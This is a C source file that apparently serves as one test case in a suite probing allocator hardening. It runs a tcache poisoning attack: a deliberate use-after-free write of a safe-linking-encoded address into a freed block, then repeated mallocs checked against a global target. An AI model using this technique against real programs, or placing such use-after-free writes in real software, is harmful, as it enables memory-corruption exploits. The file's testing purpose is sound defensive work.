/* poisoning: overwrite a freed block's first word with the address of a
 * target (tcache or free-list poisoning), so that malloc() returns the
 * target.
 *
 * Goal: malloc() returns a block that lies on a global object of the
 * attacker's choosing.
 *
 * B and then A (100 bytes each, between live blocks) are freed. A
 * use-after-free write puts the target's address into A's first words: the
 * first in glibc's safe-linking form (the attacker knows A's address, so can
 * encode it), the next three raw. Then five mallocs of A's size.
 *   poisoning        (no arguments)
 */
#include "attacks.h"

static char target[256] __attribute__((aligned(16)));

int main(void)
{
    char *lo = opaque(malloc(100)), *a = opaque(malloc(100)), *mid = opaque(malloc(100));
    char *b = opaque(malloc(100)), *hi = opaque(malloc(100));
    free(b);
    free(a);
    uintptr_t *w = opaque(a);
    w[0] = ((uintptr_t)a >> 12) ^ (uintptr_t)(target + 64);
    w[1] = (uintptr_t)(target + 64);
    w[2] = (uintptr_t)(target + 64);
    w[3] = (uintptr_t)(target + 64);
    for (int i = 0; i < 5; i++) {
        char *p = opaque(malloc(100));
        if (p && overlap(p, 100, target, sizeof target))
            reached("malloc(100) number %d returned %p, on the target %p", i + 1, (void *)p, (void *)target);
    }
    opaque(lo), opaque(mid), opaque(hi);
    not_reached("no malloc returned the target %p", (void *)target);
}
